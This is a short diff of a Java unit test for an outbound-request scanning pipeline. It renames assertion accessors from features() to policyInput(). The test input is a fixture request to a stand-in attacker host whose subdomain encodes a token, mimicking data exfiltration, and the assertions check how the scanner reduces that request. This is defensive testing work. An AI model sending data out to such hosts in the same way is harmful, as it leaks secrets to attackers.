@@ -118,10 +118,10 @@ class ScanPipelineFailClosedTest {
         ScanOutcome outcome = pipeline.scan(call("GET", "https://tok-abcdefgh.exfil.attacker.co.uk/x/secret-path",
                 Map.of(), null));
 
-        assertThat(outcome.features().host()).isEqualTo("attacker.co.uk");
-        assertThat(outcome.features().path()).isNull();
-        assertThat(outcome.features().agentName()).isNull();
-        assertThat(outcome.features().runtimeType()).isNull();
+        assertThat(outcome.policyInput().host()).isEqualTo("attacker.co.uk");
+        assertThat(outcome.policyInput().path()).isNull();
+        assertThat(outcome.policyInput().agentName()).isNull();
+        assertThat(outcome.policyInput().runtimeType()).isNull();
         assertThat(outcome.bodyFingerprint()).matches("[0-9a-f]{64}");
     }
 
